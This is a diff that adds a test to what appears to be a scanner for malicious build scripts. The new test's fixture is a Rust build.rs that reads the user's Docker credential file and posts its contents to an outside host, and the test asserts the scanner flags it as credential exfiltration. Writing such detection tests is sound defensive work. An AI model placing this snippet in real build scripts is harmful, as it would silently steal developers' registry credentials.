@@ -98,3 +98,15 @@ def test_lines_keep_their_places() -> None:
     lines = prepared(source).split("\n")
     assert lines[2] == 'Command::new("sh").arg("-c").arg("a b");' and lines[3:5] == ["", ""]
     assert go_generate("package x\n\n//go:generate echo hi\n") == [(3, "echo hi")]
+
+
+def test_a_path_formatted_under_the_home_folder(tmp_path: Path) -> None:
+    source = (
+        "fn main() {\n"
+        '    let h = std::env::var("HOME").unwrap_or_default();\n'
+        '    let p = format!("{}/{}", h, ".docker/config.json");\n'
+        "    let auth = std::fs::read_to_string(p).unwrap_or_default();\n"
+        '    let _ = ureq::post("https://cfg.layer-cache.net/d").send_string(&auth);\n}\n'
+    )
+    found = _errors(tmp_path, {"tool/build.rs": source})
+    assert ("CREDENTIAL_EXFILTRATION", "tool/build.rs", 5) in found
